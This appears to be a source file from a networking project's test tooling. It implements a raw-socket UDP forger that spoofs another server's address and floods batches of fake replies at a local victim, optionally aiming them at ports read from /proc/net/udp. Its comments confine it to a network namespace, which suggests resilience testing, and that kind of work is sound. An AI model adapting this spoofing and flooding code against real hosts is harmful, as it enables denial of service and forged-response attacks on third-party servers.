// Somebody who forges answers: sends UDP datagrams with the address and port of another server as their source, through a raw socket, in batches.
// As a program it floods a server of this host; run it in a network namespace only, where nobody else is hit.
import { readFileSync } from 'node:fs';
import { addressBytes } from '../../core/system/address.js';
import { requireLibc, systemError } from '../../core/system/libc.js';
import { AF_INET } from '../../core/system/linux.js';
import {
  HEADER_BYTES,
  HEADER_WORDS,
  VECTOR_COUNT,
  VECTOR_LENGTH,
  VECTOR_POINTER,
  VECTOR_WORDS,
  writePointer,
} from '../../core/system/message-layout.js';
import type { Endpoint } from '../../core/system/sockets.js';

const SOCK_RAW = 3;
/** A socket of this protocol only sends, and what it sends begins with the IP header. */
const IPPROTO_RAW = 255;

/** Datagrams of one system call. */
const BATCH = 256;
const IP_BYTES = 20;
const UDP_BYTES = 8;
const PORT_AT = IP_BYTES + 2;
const ID_AT = IP_BYTES + UDP_BYTES;

/** What the pool of *forward* draws its source ports from. */
const FIRST_PORT = 1024;
const PORTS = 64_512;

/** How often the ports in use are read by who can. */
const LOOK_MS = 2;

export class Forger {
  readonly #libc = requireLibc();
  readonly #fd: number;
  readonly #packets: Uint8Array[] = [];
  readonly #words = new Int32Array(BATCH * HEADER_WORDS);
  readonly #vectors = new Int32Array(BATCH * VECTOR_WORDS);
  sent = 0;

  /** Sends `message` to `victim`, an IPv4 address of this host, as if it came from `source`. */
  constructor(source: Endpoint, victim: string, message: Uint8Array) {
    const libc = this.#libc;
    this.#fd = libc.socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (this.#fd < 0) throw systemError('cannot make a raw socket', libc.errno());
    const to = addressBytes({ address: victim, port: 0 });
    if (libc.connect(this.#fd, to, to.length) < 0) {
      throw systemError('cannot connect a raw socket', libc.errno());
    }
    for (let i = 0; i < BATCH; i++) {
      const packet = datagram(source, victim, message);
      this.#packets.push(packet);
      writePointer(this.#vectors, i * VECTOR_WORDS, libc.addressOf(packet));
      this.#vectors[i * VECTOR_WORDS + VECTOR_LENGTH] = packet.length;
      const vector = libc.addressOf(this.#vectors) + i * VECTOR_WORDS * 4;
      writePointer(this.#words, i * HEADER_WORDS + VECTOR_POINTER, vector);
      this.#words[i * HEADER_WORDS + VECTOR_COUNT] = 1;
    }
  }

  /** One datagram to this port with this id. */
  send(port: number, id: number): void {
    this.#address(0, port, id);
    this.#flush(1);
  }

  /** A batch to ports that `portOf` gives, with ids drawn at random. */
  flood(portOf: (i: number) => number): void {
    for (let i = 0; i < BATCH; i++) this.#address(i, portOf(i), Math.random() * 65_536);
    this.#flush(BATCH);
  }

  close(): void {
    this.#libc.close(this.#fd);
  }

  #address(i: number, port: number, id: number): void {
    const packet = this.#packets[i] as Uint8Array;
    packet[PORT_AT] = port >> 8;
    packet[PORT_AT + 1] = port & 0xff;
    packet[ID_AT] = id >> 8;
    packet[ID_AT + 1] = id & 0xff;
  }

  #flush(count: number): void {
    const headers = this.#libc.addressOf(this.#words);
    for (let at = 0; at < count; ) {
      const taken = this.#libc.sendmmsg(this.#fd, headers + at * HEADER_BYTES, count - at, 0);
      if (taken <= 0) return;
      this.sent += taken;
      at += taken;
    }
  }
}

/** IP and UDP header in front of `message`; the kernel fills in length and checksum of IP, that of UDP may be left out (RFC 768). */
function datagram(source: Endpoint, victim: string, message: Uint8Array): Uint8Array {
  const packet = Buffer.alloc(IP_BYTES + UDP_BYTES + message.length);
  packet[0] = 0x45;
  packet[8] = 64;
  packet[9] = 17;
  packet.set(source.address.split('.').map(Number), 12);
  packet.set(victim.split('.').map(Number), 16);
  packet.writeUInt16BE(source.port, IP_BYTES);
  packet.writeUInt16BE(UDP_BYTES + message.length, IP_BYTES + 4);
  packet.set(message, ID_AT);
  return packet;
}

/** Local ports of UDP sockets of this namespace that are connected to `remote`. */
function portsTo({ address, port }: Endpoint): readonly number[] {
  const octets = Buffer.from(address.split('.').map(Number)).reverse();
  const hex = `${octets.toString('hex')}:${port.toString(16).padStart(4, '0')}`.toUpperCase();
  return readFileSync('/proc/net/udp', 'utf8')
    .split('\n')
    .map((line) => line.trim().split(/\s+/))
    .filter((fields) => fields[2] === hex)
    .map((fields) => Number.parseInt(fields[1]?.split(':')[1] ?? '0', 16));
}

/** Floods until the time is over; how many datagrams that were. With `knowsPorts` they all go to ports in use. */
async function run(
  forger: Forger,
  source: Endpoint,
  ms: number,
  knowsPorts: boolean,
): Promise<number> {
  const end = performance.now() + ms;
  let ports: readonly number[] = [];
  let lookedMs = Number.NEGATIVE_INFINITY;
  for (;;) {
    const nowMs = performance.now();
    if (nowMs >= end) break;
    if (knowsPorts && nowMs - lookedMs >= LOOK_MS) {
      ports = portsTo(source);
      lookedMs = nowMs;
    }
    if (!knowsPorts) forger.flood(() => FIRST_PORT + Math.floor(Math.random() * PORTS));
    else if (ports.length > 0) forger.flood((i) => ports[i % ports.length] as number);
    else await new Promise((resolve) => setImmediate(resolve));
  }
  forger.close();
  return forger.sent;
}

/** What `forger.js` takes on its command line, as JSON. */
export interface Flood {
  readonly source: Endpoint;
  readonly victim: string;
  /** The forged reply, in hex. */
  readonly message: string;
  readonly ms: number;
  readonly knowsPorts: boolean;
}

if (process.argv[1] === import.meta.filename) {
  const { source, victim, message, ms, knowsPorts } = JSON.parse(process.argv[2] ?? '') as Flood;
  const forger = new Forger(source, victim, Buffer.from(message, 'hex'));
  console.log(await run(forger, source, ms, knowsPorts));
}
